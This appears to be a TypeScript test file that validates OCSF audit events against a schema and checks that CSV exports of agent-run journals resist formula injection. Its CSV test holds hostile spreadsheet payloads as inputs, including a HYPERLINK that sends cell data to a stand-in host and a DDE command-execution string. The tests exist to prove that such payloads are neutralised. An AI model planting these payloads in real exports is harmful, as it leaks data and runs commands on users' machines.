import { readFileSync } from 'node:fs'
import { type Decision, entry, type RunEvent, type StoredEntry } from '@muster/protocol'
import { describe, expect, it } from 'vitest'
import { eventOf } from '../../replay/stored-journal.ts'
import { csvHeader, csvLine } from './csv.ts'
import { ocsfEvent, type RunContext } from './ocsf.ts'

interface Attribute {
  type: string
  isArray?: true
  required?: true
  enum?: (number | string)[]
}
interface Shape {
  constraints: { at_least_one?: string[]; just_one?: string[] }
  attributes: Record<string, Attribute>
}
/** What the published schema says of the class and of the objects that we use: see `source` in it. */
const schema: { version: string; class: Shape; objects: Record<string, Shape> } = JSON.parse(
  readFileSync(new URL('./api-activity-1.8.0.json', import.meta.url), 'utf8'),
)

const scalars: Record<string, (value: unknown) => boolean> = {
  integer_t: Number.isSafeInteger,
  long_t: Number.isSafeInteger,
  timestamp_t: Number.isSafeInteger,
  boolean_t: (value) => typeof value === 'boolean',
  object: (value) => typeof value === 'object',
  object_t: (value) => typeof value === 'object',
}

/** Where a value is not as the schema wants it. */
function problemsOf(value: Record<string, unknown>, { attributes, constraints }: Shape, path = ''): string[] {
  const problems = Object.entries(attributes)
    .filter(([name, { required }]) => required && value[name] === undefined)
    .map(([name]) => `${path}/${name} is missing`)
  const { at_least_one: some, just_one: one } = constraints
  if (some && !some.some((name) => value[name] !== undefined)) problems.push(`${path} has none of ${some}`)
  if (one && one.filter((name) => value[name] !== undefined).length !== 1)
    problems.push(`${path} has not one of ${one}`)
  for (const [name, part] of Object.entries(value)) {
    const attribute = attributes[name]
    if (!attribute) problems.push(`${path}/${name} is unknown`)
    else if (attribute.isArray !== Array.isArray(part) && (attribute.isArray || Array.isArray(part)))
      problems.push(`${path}/${name} is ${attribute.isArray ? 'no' : 'an'} array`)
    else
      for (const each of Array.isArray(part) ? part : [part])
        problems.push(...valueProblems(each, attribute, `${path}/${name}`))
  }
  return problems
}

function valueProblems(value: unknown, { type, enum: allowed }: Attribute, path: string): string[] {
  const shape = schema.objects[type]
  if (shape) return problemsOf(value as Record<string, unknown>, shape, path)
  if (allowed && !allowed.includes(value as number)) return [`${path} is ${value}, none of ${allowed}`]
  return (scalars[type] ?? ((one: unknown) => typeof one === 'string'))(value)
    ? []
    : [`${path} is no ${type}: ${value}`]
}

/** Journals that this version and those before it wrote, with every type of entry. */
const told: [RunEvent, RunContext][] = ['v1', 'v2', 'v3'].flatMap((version) =>
  readFileSync(new URL(`../../../../../packages/runtime/src/golden/${version}.jsonl`, import.meta.url), 'utf8')
    .trim()
    .split('\n')
    .flatMap((line) => {
      const { run, entries }: { run: string; entries: StoredEntry[] } = JSON.parse(line)
      const events = entries.flatMap((stored) => eventOf(stored) ?? [])
      const created = events[0]?.entry
      if (created?.type !== 'run.created') throw new Error('a journal begins with its creation')
      return events.map((event): [RunEvent, RunContext] => [event, { run, created, worker: undefined }])
    }),
)

describe('an OCSF event', () => {
  it('is as the schema of its version wants it, for every type of entry', () => {
    const types = entry.options.map(({ shape }) => shape.type.value)
    expect([...new Set(told.map(([event]) => event.entry.type))].sort()).toEqual([...types].sort())
    for (const [event, context] of told)
      for (const worker of [undefined, 'w1']) {
        const made = ocsfEvent(event, { ...context, worker }, true) as Record<string, unknown>
        expect(problemsOf(made, schema.class), event.entry.type).toEqual([])
        expect(made).toMatchObject({
          type_uid: 6003 * 100 + (made.activity_id as number),
          metadata: { version: schema.version, uid: `${context.run}/${event.seq}` },
        })
      }
  })

  it('says what a control did: who approved, what policies blocked', () => {
    const of = (find: (event: RunEvent) => boolean) => {
      const [event, context] = told.find(([event]) => find(event)) ?? []
      return event && context && ocsfEvent(event, context, false)
    }
    const [ended, context] = told.find(([{ entry }]) => entry.type === 'step.ended') ?? []
    if (ended?.entry.type !== 'step.ended' || !context) throw new Error('no step has ended')
    const decision: Decision = { effect: 'deny', policies: ['never'], set: 'f00' }
    const denied = { ...ended, entry: { ...ended.entry, status: 'denied' as const, decision } }
    expect(ocsfEvent(denied, context, false)).toMatchObject({
      ...{ action_id: 2, disposition_id: 2, status_id: 2, severity_id: 3, is_alert: true },
      authorizations: [{ decision: 'deny', policy: { name: 'never', uid: 'f00/never' } }],
    })
    expect(problemsOf(ocsfEvent(denied, context, true) as Record<string, unknown>, schema.class)).toEqual([])
    expect(of(({ entry }) => entry.type === 'run.stopped')).toMatchObject({
      actor: { user: { name: expect.any(String) } },
    })
    expect(of(({ entry }) => entry.type === 'approval.given' && entry.verdict === 'approve')).toMatchObject({
      ...{ action_id: 1, disposition_id: 8, activity_id: 3 },
      actor: { user: { name: expect.any(String), type_id: 1 } },
    })
    expect(of(({ entry }) => entry.type === 'step.intent')).toMatchObject({
      authorizations: [{ decision: 'allow', policy: { uid: expect.any(String) } }],
    })
  })

  it('has no content unless it is asked for, and always the same id', () => {
    for (const [event, context] of told) {
      expect(JSON.stringify(ocsfEvent(event, context, false))).not.toContain('"content":')
      expect(ocsfEvent(event, context, true)).toEqual(ocsfEvent(event, context, true))
    }
    expect(new Set(told.map(([{ seq }, { run }]) => `${run}/${seq}`)).size).toBe(told.length)
  })
})

/** A line of CSV as RFC 4180 has it, back as its fields. */
function fieldsOf(line: string): string[] {
  return [...line.replace(/\r\n$/, '').matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/gs)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
  )
}

describe('a line of CSV', () => {
  const [first] = told
  const lineOf = (user: string, hostile: string) => {
    if (!first) throw new Error('no journal')
    const [event, context] = first
    const created = { ...context.created, by: { key: hostile, user } }
    return csvLine({ ...event, entry: created }, { ...context, created }, false)
  }

  it.each([
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    'a","=1+1',
    'a;=1+1',
    'a\r\n=1+1',
  ])('lets no spreadsheet compute %j', (hostile) => {
    const fields = fieldsOf(lineOf(hostile, hostile))
    expect(fields).toHaveLength(fieldsOf(csvHeader()).length)
    const person = fields[fieldsOf(csvHeader()).indexOf('person')] ?? ''
    expect([hostile, `'${hostile}`]).toContain(person)
    for (const field of fields) expect(field).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
  })

  it('has a line for every type of entry, each with all columns', () => {
    for (const [event, context] of told)
      expect(fieldsOf(csvLine(event, context, true)), event.entry.type).toHaveLength(fieldsOf(csvHeader()).length)
  })
})
